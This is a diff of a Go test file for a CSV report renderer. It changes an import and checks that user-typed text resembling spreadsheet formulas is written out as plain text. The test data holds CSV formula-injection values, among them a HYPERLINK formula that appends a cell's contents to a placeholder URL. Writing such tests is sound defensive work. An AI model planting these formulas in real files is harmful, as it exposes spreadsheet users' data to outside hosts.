@@ -3,11 +3,11 @@ package reports_test
 import (
 	"bytes"
 	"encoding/csv"
+	"sintra/internal/domain"
 	"testing"
 	"time"
 
 	"sintra/internal/reports"
-	"sintra/internal/store"
 )
 
 // A period's name, a table's labels and its columns are text someone typed:
@@ -16,7 +16,7 @@ func TestRenderCSV_WritesFormulasAsTextAndNumbersAsNumbers(t *testing.T) {
 	t.Parallel()
 	link := `=HYPERLINK("http://example.com/?d="&A1,"Ver")`
 	r := reports.Report{Title: "Informe trimestral", GeneratedAt: time.Date(2024, 7, 1, 12, 0, 0, 0, time.UTC), Protection: "exacto",
-		Period: store.Period{Name: link, StartsOn: time.Date(2024, 3, 15, 0, 0, 0, 0, time.UTC), EndsOn: time.Date(2024, 6, 15, 0, 0, 0, 0, time.UTC)},
+		Period: domain.Period{Name: link, StartsOn: time.Date(2024, 3, 15, 0, 0, 0, 0, time.UTC), EndsOn: time.Date(2024, 6, 15, 0, 0, 0, 0, time.UTC)},
 		Tables: []reports.Table{{ID: "instituciones", Title: "Por institución", Columns: []string{"-2+3", "acciones"},
 			Rows: []reports.Row{{Key: "X", Label: "@SUM(A1:A9)", Cells: []reports.Cell{{Value: 12}, {Mark: "<5"}}}}}},
 		MIR: reports.MIR{Promedio: "1/3"}}
